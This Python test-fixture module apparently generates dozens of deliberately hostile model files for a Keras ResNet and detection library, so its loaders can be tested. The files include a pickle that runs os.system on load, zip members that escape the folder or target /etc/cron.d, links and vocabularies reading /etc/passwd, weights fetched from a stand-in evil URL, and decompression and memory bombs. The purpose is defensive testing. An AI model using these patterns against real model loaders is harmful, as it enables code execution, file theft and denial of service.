"""Files that somebody wrote to harm whoever loads them, made in a folder."""

import hashlib
import json
import os
import pickle
import struct
import warnings
import zipfile
from pathlib import Path

import h5py
import keras
import numpy as np

from detection.saving import save_model
from keras_resnet.classification.model import build_classifier, save_classifier
from keras_resnet.resnet import ResNet
from keras_resnet.weights.torchvision import save_safetensors
from tests.detection.small_model import small_model

FILES = []  # (name, reader, function that writes the file and returns its path)
URL = "https://example.com/evil"


def hostile(reader):
    def note(function):
        FILES.append((function.__name__, reader, function))
        return function

    return note


def network(**options):
    return ResNet(**{"stage_blocks": (1, 1), "width": 8, "block": "basic", "classes": 3, **options})


class Sources:
    """Whole files to spoil."""

    def __init__(self, folder):
        self.folder = folder
        detector = small_model()
        save_model(detector, folder / "detector")
        classifier = build_classifier(
            "ResNet", {"stage_blocks": [1, 1], "width": 8, "block": "basic"}, ["a", "b"]
        )
        save_classifier(classifier, folder / "classifier")
        detector.save(folder / "detector.keras")
        network().save(folder / "network.keras")
        network().save_weights(folder / "network.weights.h5")
        save_safetensors(network(), folder / "network.safetensors")

    def artifact(self, name, source="detector", description=None, weights=None, manifest=None):
        """An artefact with changed files and a manifest that agrees with them."""
        folder = self.folder / name
        folder.mkdir()
        files = {f: (self.folder / source / f) for f in ("model.json", "weights.safetensors")}
        files = {f: path.read_bytes() for f, path in files.items()}
        if description is not None:
            files["model.json"] = description(json.loads(files["model.json"]))
        if weights is not None:
            files["weights.safetensors"] = weights(files["weights.safetensors"])
        listed = {}
        for file, data in files.items():
            if isinstance(data, Path):
                os.symlink(data, folder / file)
                data = data.read_bytes()
            else:
                (folder / file).write_bytes(data)
            listed[file] = {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
        content = {"format": "keras_resnet verified folder", "version": 1, "files": listed}
        if manifest is not None:
            manifest(content)
        (folder / "manifest.json").write_text(json.dumps(content))
        return folder

    def zip(self, name, source="detector.keras", config=None, add=()):
        """A `.keras` file with a changed config and more members."""
        path = self.folder / name
        with zipfile.ZipFile(self.folder / source) as old, zipfile.ZipFile(path, "w") as new:
            for member in old.namelist():
                data = old.read(member)
                if member == "config.json" and config is not None:
                    data = config(json.loads(data))
                new.writestr(member, data)
            for member, data in add:
                new.writestr(member, data)
        return path

    def hdf5(self, name, change):
        """A `.weights.h5` file with one array replaced."""
        path = self.folder / name
        path.write_bytes((self.folder / "network.weights.h5").read_bytes())
        with h5py.File(path, "r+") as file:
            group = file["layers/stem/conv/vars"]
            del group["0"]
            change(group, file)
        return path


def as_json(change):
    def changed(value):
        change(value)
        return json.dumps(value).encode()

    return changed


def header_of(data):
    length = int.from_bytes(data[:8], "little")
    return json.loads(data[8 : 8 + length]), data[8 + length :]


def with_header(header, content):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + content


def change_header(change):
    def changed(data):
        header, content = header_of(data)
        result = change(header)
        return with_header(header if result is None else result, content)

    return changed


def tensor(shape):
    """An entry of the header, at the beginning of the data."""
    size = 4 * int(np.prod(shape, dtype=object))
    return {"dtype": "F32", "shape": shape, "data_offsets": [0, size]}


def float_tensors(header):
    return {k: e for k, e in header.items() if k != "__metadata__" and e["dtype"] == "F32"}


def first(header):
    return next(iter(float_tensors(header).values()))


DEEP = b"[" * 100_000 + b"]" * 100_000


# Our own artefacts.


@hostile("detector")
def artifact_description_of_a_gibibyte(s):
    folder = s.artifact("a_big")
    os.truncate(folder / "model.json", 2**30)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"]["model.json"]["bytes"] = 2**30
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


@hostile("detector")
def artifact_deep_json(s):
    return s.artifact("a_deep", description=lambda about: DEEP)


@hostile("detector")
def artifact_many_values(s):
    return s.artifact("a_values", description=lambda about: b"[" + b"{}," * 1_300_000 + b"{}]")


@hostile("detector")
def artifact_absurd_number_of_blocks(s):
    def change(about):
        about["architecture"]["backbone"]["stage_blocks"] = [1000, 1000, 1000]

    return s.artifact("a_blocks", description=as_json(change))


def of_blocks(*blocks, **backbone):
    def change(about):
        about["architecture"]["backbone"] |= {"stage_blocks": blocks, **backbone}

    return as_json(change)


@hostile("detector")
def artifact_of_many_blocks_and_empty_tensors(s):
    return s.artifact(
        "a_empty",
        description=of_blocks(1000, 1000, 1000),
        weights=lambda data: many_tensors(19_000),
    )


@hostile("detector")
def artifact_of_many_blocks_and_small_tensors(s):
    def many(data):
        return many_tensors(19_000, [1])

    return s.artifact("a_small", description=of_blocks(900, 50, 50, width=1), weights=many)


@hostile("detector")
def artifact_of_many_blocks_that_are_not_used(s):
    def many(data):
        return many_tensors(19_000, [1])

    return s.artifact("a_unused", description=of_blocks(1, 1, 1, 1000, 1000), weights=many)


@hostile("detector")
def artifact_of_many_layers_and_small_tensors(s):
    def change(about):
        about["architecture"]["roi_heads"] |= {
            "convolutions": [1] * 64,
            "hidden": [1] * 64,
            "class_agnostic": True,
            "cascade": {"ious": [0.5] * 16, "box_weights": [[10, 10, 5, 5]] * 16},
        }

    def many(data):
        return many_tensors(19_000, [1])

    return s.artifact("a_layers", description=as_json(change), weights=many)


@hostile("detector")
def artifact_more_blocks_than_a_config_may_have(s):
    def change(about):
        about["architecture"]["backbone"]["stage_blocks"] = [10**9, 1, 1]

    return s.artifact("a_more_blocks", description=as_json(change))


@hostile("detector")
def artifact_absurd_width(s):
    def change(about):
        about["architecture"]["roi_heads"]["hidden"] = [65536, 65536]

    return s.artifact("a_width", description=as_json(change))


@hostile("detector")
def artifact_absurd_anchors(s):
    def change(about):
        about["architecture"]["rpn"]["anchor_sizes"] = [list(range(1, 10**5))] * 4

    return s.artifact("a_anchors", description=as_json(change))


@hostile("detector")
def artifact_absurd_image_sizes(s):
    def change(about):
        about["preprocessing"]["min_side"] = 10**9

    return s.artifact("a_sides", description=as_json(change))


@hostile("detector")
def artifact_weights_of_a_url(s):
    def change(about):
        about["architecture"]["backbone"]["weights"] = URL

    return s.artifact("a_url", description=as_json(change))


@hostile("detector")
def artifact_of_a_published_depth_with_weights_of_a_url(s):
    """As many blocks as it describes, of the shapes that they have; sparse."""

    def change(about):
        about["architecture"]["backbone"] = {"depth": 18, "weights": URL}
        about["architecture"]["rpn"]["anchor_sizes"] = [[16], [32], [64], [96], [128]]

    folder = s.artifact("a_depth_url", description=as_json(change))
    path = folder / "weights.safetensors"
    header, _ = header_of(path.read_bytes())
    for i in range(16):
        filters = 64 << i // 4
        header[f"kernel{i}"] = tensor([3, 3, filters, filters])
        header |= {f"norm{i}_{j}": tensor([filters]) for j in range(4)}
    end = 0
    for entry in header.values():
        if "data_offsets" in entry:
            begin, size = end, -int(np.subtract(*entry["data_offsets"]))
            end = begin + size
            entry["data_offsets"] = [begin, end]
    data = with_header(header, b"")
    path.write_bytes(data)
    os.truncate(path, len(data) + end)
    manifest = json.loads((folder / "manifest.json").read_text())
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    manifest["files"]["weights.safetensors"] = {"bytes": len(data) + end, "sha256": digest}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


@hostile("classifier")
def classifier_weights_of_a_url(s):
    def change(about):
        about["options"]["weights"] = "hf://someone/evil"

    return s.artifact("c_url", "classifier", description=as_json(change))


@hostile("classifier")
def classifier_that_names_another_function(s):
    def change(about):
        about.update(network="load_weights", options={"weights": "/etc/passwd"})

    return s.artifact("c_function", "classifier", description=as_json(change))


@hostile("classifier")
def classifier_absurd_number_of_blocks(s):
    def change(about):
        about["options"]["stage_blocks"] = [10**6, 10**6]

    return s.artifact("c_blocks", "classifier", description=as_json(change))


@hostile("classifier")
def classifier_deeper_than_its_weights(s):
    def change(about):
        about.update(network="CifarResNet1202", options={})

    return s.artifact("c_deep", "classifier", description=as_json(change))


@hostile("classifier")
def classifier_of_many_blocks_and_small_tensors(s):
    def change(about):
        about.update(network="CifarResNet1202", options={"width": 1})

    return s.artifact(
        "c_small",
        "classifier",
        description=as_json(change),
        weights=lambda data: many_tensors(19_000, [1]),
    )


@hostile("classifier")
def classifier_of_many_blocks_with_their_kernels(s):
    """One of the two kernels of each block, and as many more arrays as blocks have."""

    def change(about):
        about["options"].update(stage_blocks=[1500], width=1)

    return s.artifact(
        "c_kernels",
        "classifier",
        description=as_json(change),
        weights=lambda data: many_tensors(10_000, [3, 3, 1, 1]),
    )


@hostile("classifier")
def classifier_absurd_width(s):
    def change(about):
        about["options"]["width"] = 10**9

    return s.artifact("c_width", "classifier", description=as_json(change))


@hostile("classifier")
def classifier_of_wrong_types(s):
    def change(about):
        about["options"].update(norm={"kind": ["batch"]}, width="8")

    return s.artifact("c_types", "classifier", description=as_json(change))


@hostile("detector")
def artifact_manifest_that_leaves_the_folder(s):
    def change(manifest):
        manifest["files"]["../../secret"] = {"bytes": 1, "sha256": "0" * 64}

    return s.artifact("a_parent", manifest=change)


@hostile("detector")
def artifact_with_a_link(s):
    return s.artifact("a_link", weights=lambda data: s.folder / "detector/weights.safetensors")


@hostile("detector")
def artifact_of_a_tebibyte(s):
    """Sparse, so that it takes no space; header and manifest agree."""
    folder = s.artifact("a_tera")
    path = folder / "weights.safetensors"
    header, _ = header_of(path.read_bytes())
    first(header)["shape"], end = [2**38], 0
    for entry in header.values():
        if "data_offsets" in entry:
            size = 2**40 if entry["shape"] == [2**38] else -np.subtract(*entry["data_offsets"])
            entry["data_offsets"] = [end, end + int(size)]
            end += int(size)
    data = with_header(header, b"")
    path.write_bytes(data)
    os.truncate(path, len(data) + end)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"]["weights.safetensors"]["bytes"] = len(data) + end
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


@hostile("detector")
def artifact_cut_short(s):
    folder = s.artifact("a_cut")
    path = folder / "weights.safetensors"
    os.truncate(path, path.stat().st_size // 2)
    return folder


@hostile("detector")
def artifact_of_nan(s):
    def change(data):
        header, content = header_of(data)
        content = bytearray(content)
        start = first(header)["data_offsets"][0]
        content[start : start + 4] = struct.pack("<f", float("nan"))
        return with_header(header, bytes(content))

    return s.artifact("a_nan", weights=change)


@hostile("detector")
def artifact_of_another_dtype(s):
    def change(header):
        first(header)["dtype"] = "I32"  # As many bytes.

    return s.artifact("a_dtype", weights=change_header(change))


@hostile("detector")
def header_longer_than_the_file(s):
    return s.artifact("h_long", weights=lambda data: struct.pack("<Q", 2**63) + data[8:])


@hostile("detector")
def header_of_spaces(s):
    return s.artifact("h_spaces", weights=lambda data: with_header(b"{" + b" " * 10**8 + b"}", b""))


def many_tensors(count, shape=(0,)):
    size = 4 * int(np.prod(shape))
    entries = (
        {"dtype": "F32", "shape": list(shape), "data_offsets": [i * size, (i + 1) * size]}
        for i in range(count)
    )
    header = {str(i): entry for i, entry in enumerate(entries)}
    return with_header(json.dumps(header, separators=(",", ":")).encode(), bytes(count * size))


@hostile("detector")
def header_of_many_tensors(s):
    return s.artifact("h_many", weights=lambda data: many_tensors(19_000))


@hostile("detector")
def header_of_too_many_tensors(s):
    return s.artifact("h_too_many", weights=lambda data: many_tensors(60_000))


@hostile("detector")
def header_with_offsets_that_overlap(s):
    def change(header):
        one, other, *_ = float_tensors(header).values()
        other.update(shape=one["shape"], data_offsets=one["data_offsets"])

    return s.artifact("h_overlap", weights=change_header(change))


@hostile("detector")
def header_with_offsets_outside(s):
    def change(header):
        entry = first(header)
        entry["data_offsets"] = [2**40 + offset for offset in entry["data_offsets"]]

    return s.artifact("h_outside", weights=change_header(change))


@hostile("detector")
def header_with_negative_lengths(s):
    def change(header):
        first(header)["shape"] = [-1, -1]

    return s.artifact("h_negative", weights=change_header(change))


@hostile("detector")
def header_with_a_dtype_that_lies(s):
    def change(header):
        first(header)["dtype"] = "F64"

    return s.artifact("h_lies", weights=change_header(change))


@hostile("detector")
def header_with_a_key_twice(s):
    def change(header):
        text = json.dumps(header).encode()
        name = json.dumps(list(header)[-1]).encode()
        return text[:-1] + b"," + name + b":" + json.dumps(first(header)).encode() + b"}"

    return s.artifact("h_twice", weights=change_header(change))


@hostile("detector")
def header_deep(s):
    return s.artifact("h_deep", weights=lambda data: with_header(b'{"a":' + DEEP + b"}", b""))


@hostile("detector")
def header_with_numbers_beyond_all(s):
    return s.artifact(
        "h_numbers", weights=lambda data: with_header(b'{"a": ' + b"9" * 10**6 + b"}", b"")
    )


# Keras files.


def layers_with(layer):
    """The config of a model with one more layer, written by hand."""

    def change(config):
        config["config"]["backbone"]["config"]["layers"].append(
            {"name": "evil", "inbound_nodes": [], "build_config": None, **layer}
        )

    return as_json(change)


def layer(name, module="keras.layers", registered=None, **config):
    return {
        "module": module,
        "class_name": name,
        "config": {"name": "evil", **config},
        "registered_name": registered,
    }


@hostile("keras")
def keras_lambda(s):
    path = s.folder / "k_lambda.keras"
    inputs = keras.Input((2,))
    keras.Model(inputs, keras.layers.Lambda(lambda x: x + 1)(inputs)).save(path)
    return path


@hostile("keras")
def keras_program_of_tensorflow(s):
    return s.zip("k_tfsm.keras", config=layers_with(layer("TFSMLayer", filepath="/elsewhere/evil")))


@hostile("keras")
def keras_pickled_torch(s):
    return s.zip("k_torch.keras", config=layers_with(layer("TorchModuleWrapper", module="AAAA")))


@hostile("keras")
def keras_vocabulary_from_a_path(s):
    evil = layer("StringLookup", vocabulary="/etc/passwd")
    return s.zip("k_vocabulary.keras", config=layers_with(evil))


@hostile("keras")
def keras_foreign_class(s):
    return s.zip("k_os.keras", config=layers_with(layer("system", module="os")))


@hostile("keras")
def keras_function_of_keras(s):
    evil = layer("get_file", module="keras.utils", origin=URL)
    return s.zip("k_get_file.keras", config=layers_with(evil))


def vgg(registered, weights):
    """A class of KerasCV that opens the path, or fetches the address, when it is made."""
    options = {"include_rescaling": False, "include_top": False, "input_shape": [32, 32, 3]}
    module = "keras_cv.src.models.legacy.vgg16"
    return layers_with(layer("VGG16", module, registered, weights=weights, **options))


@hostile("keras")
def keras_foreign_class_under_our_name(s):
    return s.zip("k_vgg.keras", config=vgg("keras_resnet>x", "/etc/passwd"))


@hostile("keras")
def keras_foreign_class_with_a_url(s):
    return s.zip("k_vgg_url.keras", config=vgg("detection>x", "gs://example/evil"))


@hostile("keras")
def keras_foreign_class_under_the_name_of_one_of_ours(s):
    return s.zip("k_vgg_resnet.keras", config=vgg("keras_resnet>ResNet", URL))


@hostile("keras")
def keras_foreign_function_under_the_name_of_one_of_ours(s):
    evil = layer("function", "keras_cv.src.models.legacy.vgg16", "keras_resnet>ResNet")
    return s.zip("k_function.keras", config=layers_with({**evil, "config": "VGG16"}))


@hostile("keras")
def keras_foreign_class_without_our_name(s):
    return s.zip("k_hub.keras", config=layers_with(layer("Backbone", "keras_hub.models")))


@hostile("keras")
def keras_base_of_the_lookups_under_our_name(s):
    module = "keras.src.layers.preprocessing.index_lookup"
    evil = layer("IndexLookup", module, "keras_resnet>x", vocabulary="/etc/passwd")
    return s.zip("k_index.keras", config=layers_with(evil))


@hostile("keras")
def keras_private_class_under_our_name(s):
    module = "keras.src.layers.preprocessing.pipeline"
    return s.zip("k_private.keras", config=layers_with(layer("Pipeline", module, "detection>x")))


@hostile("keras")
def keras_vocabulary_by_another_path(s):
    """Keras looks `keras` + `layers.StringLookup` up as it does the class of `keras.layers`."""
    evil = layer("layers.StringLookup", "keras", vocabulary="/etc/passwd")
    return s.zip("k_dotted.keras", config=layers_with(evil))


@hostile("keras")
def keras_own_class_with_a_url(s):
    def change(config):
        config["config"]["backbone"] = layer(
            "ResNet",
            "keras_resnet.resnet",
            "keras_resnet>ResNet",
            weights=URL,
            stage_blocks=[1, 1],
            width=16,
        )

    return s.zip("k_url.keras", config=as_json(change))


@hostile("keras")
def keras_own_class_in_place_of_a_path(s):
    def change(config):
        config["config"]["backbone"] = "/etc/passwd"

    return s.zip("k_path.keras", config=as_json(change))


@hostile("keras")
def keras_absurd_number_of_layers(s):
    def change(config):
        config["config"]["rpn"]["config"]["conv_depth"] = 10**9

    return s.zip("k_layers.keras", config=as_json(change))


@hostile("keras")
def keras_many_layers_in_a_list(s):
    def change(config):
        head = config["config"]["roi_heads"]["config"]["box_head"]["config"]
        head["hidden"] = [1] * 100_000

    return s.zip("k_list.keras", config=as_json(change))


@hostile("keras")
def keras_many_levels(s):
    def change(config):
        config["config"]["neck"]["config"]["levels"] = ["C2"] * 100_000

    return s.zip("k_levels.keras", config=as_json(change))


@hostile("keras")
def keras_many_objects(s):
    def change(config):
        layers = config["config"]["backbone"]["config"]["layers"]
        layers.extend(layer("ReLU") for _ in range(20_000))

    return s.zip("k_objects.keras", config=as_json(change))


@hostile("keras")
def keras_absurd_number_of_units(s):
    def change(config):
        head = config["config"]["roi_heads"]["config"]["box_head"]["config"]
        head["hidden"] = [10**9, 10**9]

    return s.zip("k_units.keras", config=as_json(change))


@hostile("keras")
def keras_deep_json(s):
    return s.zip("k_deep.keras", config=lambda config: DEEP)


@hostile("keras")
def keras_config_padded_to_a_gibibyte(s):
    path = s.folder / "k_padded.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("config.json", "w") as stream:
            stream.write(b'{"config": {')
            for _ in range(1024):
                stream.write(b" " * 2**20)
            stream.write(b"}}")
        archive.writestr("metadata.json", "{}")
        archive.writestr("model.weights.h5", b"")
    assert path.stat().st_size < 2**24
    return path


@hostile("keras")
def keras_config_longer_than_it_declares(s):
    path = s.folder / "k_declares.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", b" " * 2**27)
    data = bytearray(path.read_bytes())
    place = data.rindex(b"PK\1\2")
    data[place + 24 : place + 28] = struct.pack("<I", 100)
    path.write_bytes(data)
    return path


@hostile("keras")
def keras_weights_that_expand(s):
    path = s.folder / "k_expand.keras"
    with (
        zipfile.ZipFile(s.folder / "detector.keras") as old,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        new.writestr("config.json", old.read("config.json"))
        with new.open("model.weights.h5", "w") as stream:
            for _ in range(256):
                stream.write(bytes(2**20))
    return path


@hostile("keras")
def keras_member_of_a_parent(s):
    return s.zip("k_parent.keras", add=[("../../evil.txt", "x")])


@hostile("keras")
def keras_absolute_member(s):
    return s.zip("k_absolute.keras", add=[("/etc/cron.d/evil", "x")])


@hostile("keras")
def keras_member_twice(s):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return s.zip("k_twice.keras", add=[("config.json", "{}")])


@hostile("keras")
def keras_member_that_is_a_link(s):
    path = s.folder / "k_link.keras"
    with (
        zipfile.ZipFile(s.folder / "detector.keras") as old,
        zipfile.ZipFile(path, "w") as new,
    ):
        link = zipfile.ZipInfo("config.json")
        link.external_attr = 0o120777 << 16
        new.writestr(link, "/etc/passwd")
        new.writestr("model.weights.h5", old.read("model.weights.h5"))
    return path


@hostile("keras")
def keras_of_a_million_members(s):
    path = s.folder / "k_members.keras"
    data = bytearray((s.folder / "detector.keras").read_bytes())
    data[-14:-10] = struct.pack("<HH", 60_000, 60_000)
    path.write_bytes(data)
    return path


@hostile("keras")
def keras_cut_short(s):
    path = s.folder / "k_cut.keras"
    path.write_bytes((s.folder / "detector.keras").read_bytes()[:-100])
    return path


# Weights in HDF5.


@hostile("weights")
def hdf5_external_link(s):
    def change(group, file):
        group["0"] = h5py.ExternalLink("/etc/passwd", "/")

    return s.hdf5("external_link.weights.h5", change)


@hostile("weights")
def hdf5_soft_link(s):
    def change(group, file):
        group["0"] = h5py.SoftLink("/layers/dense/vars/0")

    return s.hdf5("soft_link.weights.h5", change)


@hostile("weights")
def hdf5_external_storage(s):
    def change(group, file):
        group.create_dataset("0", (7, 7, 3, 8), "float32", external=[("/etc/passwd", 0, 4704)])

    return s.hdf5("external.weights.h5", change)


@hostile("weights")
def hdf5_virtual(s):
    def change(group, file):
        layout = h5py.VirtualLayout((7, 7, 3, 8), "float32")
        layout[:] = h5py.VirtualSource("/elsewhere/other.h5", "data", shape=(7, 7, 3, 8))
        group.create_virtual_dataset("0", layout)

    return s.hdf5("virtual.weights.h5", change)


@hostile("weights")
def hdf5_chunked_shape(s):
    def change(group, file):
        group.create_dataset("0", (10**6, 10**6), "float32", chunks=(16, 16))

    return s.hdf5("chunked.weights.h5", change)


@hostile("weights")
def hdf5_compressed(s):
    def change(group, file):
        zeros = np.zeros((2**22,), "float32")
        group.create_dataset("0", data=zeros, chunks=(2**20,), compression="gzip")

    return s.hdf5("compressed.weights.h5", change)


@hostile("weights")
def hdf5_not_stored(s):
    def change(group, file):
        group.create_dataset("0", (2**40,), "float32")

    return s.hdf5("not_stored.weights.h5", change)


@hostile("weights")
def hdf5_circle(s):
    def change(group, file):
        group["0"] = file["layers"]

    return s.hdf5("circle.weights.h5", change)


@hostile("weights")
def hdf5_deep(s):
    def change(group, file):
        group.create_group("/".join("0" * 1000))

    return s.hdf5("deep.weights.h5", change)


@hostile("weights")
def hdf5_of_text(s):
    def change(group, file):
        group.create_dataset("0", data=["evil"] * 10, dtype=h5py.string_dtype())

    return s.hdf5("text.weights.h5", change)


@hostile("weights")
def hdf5_of_nan(s):
    def change(group, file):
        group["0"] = np.full((7, 7, 3, 8), np.nan, "float32")

    return s.hdf5("nan.weights.h5", change)


@hostile("weights")
def hdf5_cut_short(s):
    path = s.folder / "cut.weights.h5"
    data = (s.folder / "network.weights.h5").read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


# Weights in safetensors, and what is refused by its kind.


@hostile("weights")
def safetensors_of_a_tebibyte(s):
    path = s.folder / "tera.safetensors"
    data = with_header({"conv1.weight": tensor([2**38])}, b"")
    path.write_bytes(data)
    os.truncate(path, len(data) + 2**40)
    return path


@hostile("weights")
def safetensors_with_deep_notes(s):
    path = s.folder / "notes.safetensors"
    path.write_bytes(with_header({"__metadata__": {"keras_resnet": DEEP.decode()}}, b""))
    return path


@hostile("convert")
def safetensors_that_describe_a_large_network(s):
    path = s.folder / "large.safetensors"
    header, content = header_of((s.folder / "network.safetensors").read_bytes())
    notes = json.loads(header["__metadata__"]["keras_resnet"])
    notes["architecture"].update(width=10**7)
    header["__metadata__"]["keras_resnet"] = json.dumps(notes)
    path.write_bytes(with_header(header, content))
    return path


@hostile("convert")
def safetensors_of_empty_tensors(s):
    """Shapes of no bytes that ask for a network of many."""
    path = s.folder / "empty.safetensors"
    names = ["layer1.0.conv1.weight", "layer1.0.conv2.weight", "layer1.0.bn1.running_mean"]
    header = {name: tensor([0]) for name in names}
    path.write_bytes(with_header({**header, "conv1.weight": tensor([10**6, 0, 7, 7])}, b""))
    return path


@hostile("convert")
def keras_network_with_a_url(s):
    def change(config):
        config["config"]["weights"] = URL

    return s.zip("n_url.keras", "network.keras", as_json(change))


@hostile("convert")
def keras_network_of_more_blocks_than_weights(s):
    def change(config):
        config["config"].update(stage_blocks=[500, 1], width=1)

    return s.zip("n_more.keras", "network.keras", as_json(change))


@hostile("convert")
def keras_network_of_many_blocks(s):
    def change(config):
        config["config"]["stage_blocks"] = [10**8, 1]

    return s.zip("n_blocks.keras", "network.keras", as_json(change))


@hostile("torchvision")
def torchvision_detector_of_empty_tensors(s):
    path = s.folder / "detector.safetensors"
    shapes = {
        "backbone.body.conv1.weight": [64, 0, 7, 7],
        "backbone.body.layer1.0.conv1.weight": [0],
        "backbone.body.layer1.0.bn1.running_mean": [0],
        "backbone.fpn.inner_blocks.0.0.weight": [10**6, 64, 0, 1],
        "roi_heads.box_head.fc6.weight": [10**9, 0],
        "roi_heads.box_predictor.cls_score.weight": [91, 0],
    }
    path.write_bytes(with_header({name: tensor(shape) for name, shape in shapes.items()}, b""))
    return path


@hostile("torchvision")
def torchvision_detector_of_many_blocks(s):
    """Names of blocks that hold nothing, beside what the smallest detector is told by."""
    path = s.folder / "blocks.safetensors"
    shapes = {
        "backbone.body.conv1.weight": [64, 3, 7, 7],
        "backbone.body.layer1.0.conv1.weight": [64, 64, 3, 3],
        "backbone.body.layer1.0.bn1.running_mean": [64],
        **{f"backbone.body.layer{1 + i % 4}.{i // 4}.conv2.weight": [0] for i in range(4000)},
        **{f"backbone.fpn.inner_blocks.{i}.0.weight": [256, 64 << i, 1, 1] for i in range(4)},
        "rpn.head.conv.0.0.weight": [256, 256, 3, 3],
        "roi_heads.box_head.fc6.weight": [1024, 256 * 49],
        "roi_heads.box_head.fc7.weight": [1024, 1024],
        "roi_heads.box_predictor.cls_score.weight": [91, 1024],
    }
    header, end = {}, 0
    for name, shape in shapes.items():
        size = 4 * int(np.prod(shape))
        header[name] = {"dtype": "F32", "shape": shape, "data_offsets": [end, end + size]}
        end += size
    data = with_header(header, b"")
    path.write_bytes(data)
    os.truncate(path, len(data) + end)
    return path


class _Evil:
    def __reduce__(self):
        return (os.system, ("touch evil",))


@hostile("weights")
def pickle_of_torch(s):
    path = s.folder / "evil.pth"
    path.write_bytes(pickle.dumps(_Evil()))
    return path


@hostile("detector")
def pickle_as_a_detector(s):
    path = s.folder / "detector.pth"
    path.write_bytes(pickle.dumps(_Evil()))
    return path


@hostile("weights")
def pickle_under_another_name(s):
    path = s.folder / "evil.safetensors"
    path.write_bytes(pickle.dumps(_Evil()))
    return path


def _whole_model(path):
    inputs = keras.Input((2,))
    keras.Model(inputs, keras.layers.Dense(2)(inputs)).save(path)
    return path


@hostile("detector")
def whole_model_in_hdf5(s):
    return _whole_model(s.folder / "whole.h5")


@hostile("weights")
def whole_model_in_hdf5_as_weights(s):
    return _whole_model(s.folder / "whole_weights.h5")


@hostile("classifier")
def whole_model_in_hdf5_as_a_classifier(s):
    return _whole_model(s.folder / "whole_classifier.h5")


@hostile("detector")
def foreign_saved_model(s):
    folder = s.folder / "foreign"
    folder.mkdir()
    (folder / "saved_model.pb").write_bytes(b"\x08\x01")
    return folder


@hostile("classifier")
def foreign_saved_model_as_a_classifier(s):
    folder = s.folder / "foreign_classifier"
    folder.mkdir()
    (folder / "saved_model.pb").write_bytes(b"\x08\x01")
    return folder


def write_all(folder):
    """Writes every file.

    Returns:
        List of `[name, reader, path]`.
    """
    sources = Sources(Path(folder))
    return [[name, reader, str(write(sources))] for name, reader, write in FILES]
